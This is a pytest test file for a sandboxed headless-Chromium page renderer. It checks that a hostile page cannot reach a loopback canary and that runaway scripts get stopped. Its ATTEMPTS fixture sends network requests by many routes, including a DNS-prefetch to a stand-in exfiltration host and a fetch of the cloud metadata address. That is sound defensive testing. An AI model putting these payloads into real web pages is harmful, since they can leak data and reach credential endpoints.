"""What a page may try when a browser shows it; a canary on loopback must hear nothing of it."""

import asyncio
import json
import os
import shutil
import socket
import threading
from concurrent.futures import ThreadPoolExecutor

import pytest

from claims.web import browser
from claims.web.browser import BrowserFailed, Order
from tests.claims.web.servers import door_to, response

pytestmark = [pytest.mark.browser, pytest.mark.allow_hosts(["127.0.0.1", "127.0.0.2"])]

HELLO = b"<!doctype html><title>Harbour</title><h1>Harbour</h1><p id=late></p>"
# What actually opens a connection: no name looked up, no socket but the pipe to us.
CONNECTIONS = {"TCP_CONNECT", "TCP_CONNECT_ATTEMPT", "UDP_BYTES_SENT", "HOST_RESOLVER_SYSTEM_TASK",
               "HOST_RESOLVER_DNS_TASK"}  # fmt: skip


@pytest.fixture(scope="module")
def chromium():
    found = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    if found is None:
        (pytest.fail if os.environ.get("REQUIRE_BROWSER") == "1" else pytest.skip)("no Chromium: browser tests skipped")
    return found


class Ears:
    """Hears every datagram."""

    def __init__(self):
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.bind(("127.0.0.1", 0))
        self.socket.settimeout(0.05)
        self.port = self.socket.getsockname()[1]
        self.heard = 0
        self._stopped = threading.Event()
        self._thread = threading.Thread(target=self._listen)
        self._thread.start()

    def _listen(self):
        while not self._stopped.is_set():
            try:
                self.socket.recv(4096)
                self.heard += 1
            except TimeoutError:
                continue

    def stop(self):
        self._stopped.set()
        self._thread.join()
        self.socket.close()


@pytest.fixture
def ears():
    found = Ears()
    yield found
    found.stop()


@pytest.fixture
def stage(serve, chromium):
    """A website whose pages a test puts into ``pages``, and a canary beside it that no page may reach."""
    pages = {}

    def answer(path, _request):
        body = pages.get(path.partition("?")[0])
        if body is None:
            return response(b"nothing", "404 Not Found")
        return body if body.startswith(b"HTTP/") else response(body)

    server = serve(answer)
    server.pages = pages
    jewels = response(b"the crown jewels", Access_Control_Allow_Origin="*", Content_Disposition="attachment")
    server.canary = serve(jewels)

    def show(page=HELLO, **options):
        pages["/"] = page
        order = Order(url=server.url(), headers={"content-type": "text/html"}, executable=chromium, sandbox=False)
        # In a thread of its own: the browser of other tests keeps an event loop in this one.
        with ThreadPoolExecutor(1) as pool:
            shown = browser.show(browser.replace(order, **options), page, door=door_to(server))
            return pool.submit(asyncio.run, shown).result()

    server.show = show
    return server


def js(code):
    return response(code.encode(), Content_Type="text/javascript")


# --- what it is for


def test_what_scripts_add_is_in_the_document_the_pictures_and_the_requests(stage):
    stage.pages["/data.json"] = response(b'{"text": "Twelve ships came."}', Content_Type="application/json")
    stage.pages["/app.js"] = js(
        "fetch('/data.json').then(r => r.json()).then(d => document.getElementById('late').append(d.text))"
    )
    stage.pages["/moved"] = response(b"", "302 Found", Location="/style.css")
    stage.pages["/style.css"] = response(b"p { color: red }", Content_Type="text/css")

    shown = stage.show(HELLO + b"<script src=/app.js></script><link rel=stylesheet href=/moved>")

    assert b'<p id="late">Twelve ships came.</p>' in shown.document
    assert shown.document.startswith(b"<!DOCTYPE html><html>")
    assert shown.url == stage.url()
    assert shown.screenshot.startswith(b"\x89PNG\r\n\x1a\n")
    assert shown.pdf.startswith(b"%PDF-")
    paths = [hop.url.rpartition("/")[2] for hop in shown.hops]
    assert sorted(paths) == ["app.js", "data.json", "moved", "style.css"]
    assert all(hop.request.startswith(b"GET /") and hop.response.startswith(b"HTTP/1.1") for hop in shown.hops)
    assert (shown.notes, shown.refused) == ([], {})


@pytest.mark.thorough
def test_a_page_that_forwards_by_script_is_read_where_it_leads(stage):
    stage.pages["/next"] = b"<!doctype html><p>The next page.</p>"

    shown = stage.show(HELLO + b"<script>location.replace('/next')</script>")

    assert b"The next page." in shown.document
    assert shown.url == stage.url("/next")


@pytest.mark.thorough
def test_the_document_is_read_where_the_page_has_no_say(stage):
    shown = stage.show(
        b"<!doctype html><p>True words.</p><script>"
        b"Object.defineProperty(Element.prototype, 'outerHTML', {get: () => 'forged'});"
        b"String.prototype.slice = () => 'forged';</script>"
    )

    assert b"True words." in shown.document
    assert shown.document != b"forged"


# --- what it may try

ATTEMPTS = """
const at = name => `http://127.0.0.1:${TCP}/${name}`;
const tag = (kind, fields) => document.body.append(Object.assign(document.createElement(kind), fields));
const quietly = todo => { try { const done = todo(); if (done && done.catch) done.catch(() => {}); } catch {} };
tag("img", {src: at("img")}); tag("iframe", {src: at("iframe")}); tag("script", {src: at("script")});
tag("link", {rel: "stylesheet", href: at("style")}); tag("video", {src: at("video")}); tag("object", {data: at("object")});
tag("link", {rel: "dns-prefetch", href: at("dns")}); tag("link", {rel: "preconnect", href: at("preconnect")});
tag("link", {rel: "dns-prefetch", href: "//secret-word.exfiltration.example"});
tag("link", {rel: "prefetch", href: at("prefetch")}); tag("link", {rel: "preload", as: "image", href: at("preload")});
tag("a", {id: "save", href: at("download"), download: "x.bin"});
setTimeout(() => document.getElementById("save").click(), 300);
quietly(() => fetch(at("fetch"), {mode: "no-cors"}));
quietly(() => fetch(at("post"), {mode: "no-cors", method: "POST", body: "words"}));
quietly(() => navigator.sendBeacon(at("beacon"), "words"));
quietly(() => fetch(at("keepalive"), {mode: "no-cors", keepalive: true}));
quietly(() => { const x = new XMLHttpRequest(); x.open("GET", at("xhr")); x.send(); });
quietly(() => new EventSource(at("events"))); quietly(() => window.open(at("popup")));
quietly(() => new WebSocket(`ws://127.0.0.1:${TCP}/socket`));
quietly(() => new Worker(URL.createObjectURL(new Blob(
  [`new WebSocket("ws://127.0.0.1:${TCP}/worker-socket"); fetch("${at("worker")}", {mode: "no-cors"})`]))));
quietly(() => navigator.serviceWorker.register("/sw.js"));
quietly(() => new WebTransport(`https://127.0.0.1:${UDP}/`));
quietly(() => { const peer = new RTCPeerConnection({iceServers: [{urls: `stun:127.0.0.1:${UDP}`},
    {urls: `turn:127.0.0.1:${TCP}?transport=tcp`, username: "u", credential: "c"}]});
  peer.createDataChannel("x"); peer.createOffer().then(offer => peer.setLocalDescription(offer)); });
quietly(() => { const form = document.createElement("form"); form.action = at("form"); form.target = "_blank";
  document.body.append(form); form.submit(); });
quietly(() => fetch("http://169.254.169.254/latest/meta-data/", {mode: "no-cors"}));
quietly(() => fetch("http://localhost:" + TCP + "/name", {mode: "no-cors"}));
quietly(() => fetch("http://[::1]:" + TCP + "/six", {mode: "no-cors"}));
"""


def hostile(stage, ears):
    stage.pages["/sw.js"] = js("self.addEventListener('fetch', () => {})")
    ports = f"const TCP = {stage.canary.port}, UDP = {ears.port};"
    return f"<!doctype html><body><p>Still here.</p><script>{ports}{ATTEMPTS}</script>".encode()


def heard_of(canary):
    return {request.split(b" ")[1].decode().lstrip("/") for request in canary.requests if b" " in request}


def connections_in(log):
    """Which kinds of connection Chromium's own network log tells of."""
    names = {number: name for name, number in json.loads(log.read_text())["constants"]["logEventTypes"].items()}
    return {names[event["type"]] for event in json.loads(log.read_text())["events"]} & CONNECTIONS


@pytest.mark.thorough
def test_nothing_a_page_tries_reaches_the_canary(stage, ears, tmp_path, monkeypatch):
    log = tmp_path / "net.json"
    monkeypatch.setattr(browser, "FLAGS", (*browser.FLAGS, f"--log-net-log={log}"))

    shown = stage.show(hostile(stage, ears))

    assert b"Still here." in shown.document
    assert (stage.canary.connections, ears.heard) == (0, 0)
    assert connections_in(log) == set()
    assert shown.refused["ip_denied"] >= 1  # the metadata address
    assert shown.refused["method"] >= 1
    assert sum(shown.refused.values()) >= 12
    assert {hop.url for hop in shown.hops} <= {stage.url("/favicon.ico"), stage.url("/sw.js")}


@pytest.mark.thorough
def test_without_the_fence_the_same_page_reaches_the_canary(stage, ears, monkeypatch):
    async def no_fence(*_):
        pass

    monkeypatch.setattr(browser, "ALONE", ("--host-resolver-rules=MAP good.test 127.0.0.1",))
    monkeypatch.setattr(browser._Visit, "_fence", no_fence)

    stage.show(hostile(stage, ears))

    reached = heard_of(stage.canary)
    assert {"img", "iframe", "script", "style", "fetch", "post", "beacon", "xhr", "socket", "worker-socket"} <= reached
    assert ears.heard > 0  # WebRTC


@pytest.mark.thorough
def test_what_interception_misses_meets_a_browser_that_can_reach_nobody(stage, ears, monkeypatch):
    """The second layer alone: no request is intercepted, and still nothing arrives."""

    async def only_the_page(visit, context, _page):
        await context.route(visit._order.url, visit._answer)

    monkeypatch.setattr(browser._Visit, "_fence", only_the_page)

    shown = stage.show(hostile(stage, ears).replace(b"setTimeout", b"void"))  # it would leave for an error page

    assert b"Still here." in shown.document
    assert (stage.canary.connections, ears.heard) == (0, 0)


@pytest.mark.thorough
def test_interception_alone_would_let_something_out(stage, ears, monkeypatch):
    """Why there are two layers."""
    monkeypatch.setattr(browser, "ALONE", ())

    shown = stage.show(hostile(stage, ears))

    assert b"Still here." in shown.document
    assert stage.canary.connections + ears.heard > 0


def test_a_page_that_leads_to_a_private_address_stays_where_it_is(stage):
    port = stage.canary.port

    shown = stage.show(HELLO + f"<script>location = 'http://127.0.0.1:{port}/'</script>".encode(), load_seconds=3)

    assert b"Harbour" in shown.document
    assert shown.url == stage.url()
    assert stage.canary.connections == 0


@pytest.mark.thorough
def test_a_redirect_of_a_file_into_a_private_network_is_not_followed(stage):
    stage.pages["/away.css"] = response(b"", "302 Found", Location=f"http://127.0.0.1:{stage.canary.port}/x")

    shown = stage.show(HELLO + b"<link rel=stylesheet href=/away.css>")

    assert shown.refused == {"port": 1}
    assert stage.canary.connections == 0


# --- what it may cost


@pytest.mark.thorough
def test_ten_thousand_files_are_not_asked_for(stage):
    shown = stage.show(
        HELLO + b"<script>for (let n = 0; n < 10000; n++) new Image().src = `/${n}.png`</script>",
        requests=40,
        load_seconds=5,
    )

    assert stage.connections <= 40
    assert "left_out" in shown.notes
    assert b"Harbour" in shown.document


@pytest.mark.thorough
def test_a_page_whose_files_are_too_large_together_gets_no_more_of_them(stage):
    stage.pages["/big"] = b"x" * 200_000

    shown = stage.show(HELLO + b"<script src=/big?1></script><script src=/big?2></script><script src=/big?3></script>"
                       b"<script>for (let n = 4; n < 20; n++) new Image().src = `/big?${n}`</script>", wire=500_000)  # fmt: skip

    assert stage.connections <= 3 + browser.AT_ONCE
    assert shown.notes == ["left_out"]


@pytest.mark.thorough
@pytest.mark.parametrize(
    "endless",
    [
        b"for (;;) {}",
        b"setInterval(() => { for (;;) {} })",
        b"for (;;) alert('Press OK')",
        b"setTimeout(function again() { confirm('?'); prompt('?'); setTimeout(again) })",
        b"(function again() { Promise.resolve().then(again) })()",
        b"setInterval(() => location.reload())",
        b"for (;;) window.open('/')",
    ],
)
def test_scripts_without_an_end_are_ended_and_the_page_is_read(stage, endless):
    shown = stage.show(
        b"<!doctype html><p>Before.</p><script>" + endless + b"</script>", load_seconds=3, rest_seconds=1
    )

    assert b"Before." in shown.document
    assert shown.screenshot


@pytest.mark.parametrize(
    "endless",
    [
        b"for (;;) {}",
        pytest.param(b"for (;;) location.reload()", marks=pytest.mark.thorough),
        pytest.param(b"for (;;) history.pushState(0, '', '?' + Math.random())", marks=pytest.mark.thorough),
    ],
)
def test_a_page_that_takes_too_long_is_given_up_in_words(stage, endless):
    with pytest.raises(BrowserFailed, match="slow"):
        stage.show(b"<!doctype html><script>" + endless + b"</script>", all_seconds=4)


@pytest.mark.thorough
def test_a_document_without_end_is_cut(stage):
    shown = stage.show(HELLO + b"<script>document.body.append('long '.repeat(1000))</script>", letters=3000)

    assert len(shown.document) == 3000
    assert shown.notes == ["shortened"]


@pytest.mark.thorough
def test_a_picture_is_no_higher_than_a_picture_may_be(stage, monkeypatch):
    monkeypatch.setattr(browser, "MOST_HEIGHT", 1000)

    shown = stage.show(HELLO + b"<div style='height: 900000px'></div>")

    assert int.from_bytes(shown.screenshot[20:24], "big") == 1000


def test_a_browser_that_does_not_start_is_told(stage, chromium):
    with pytest.raises(BrowserFailed, match="start"):
        stage.show(executable="/bin/false")
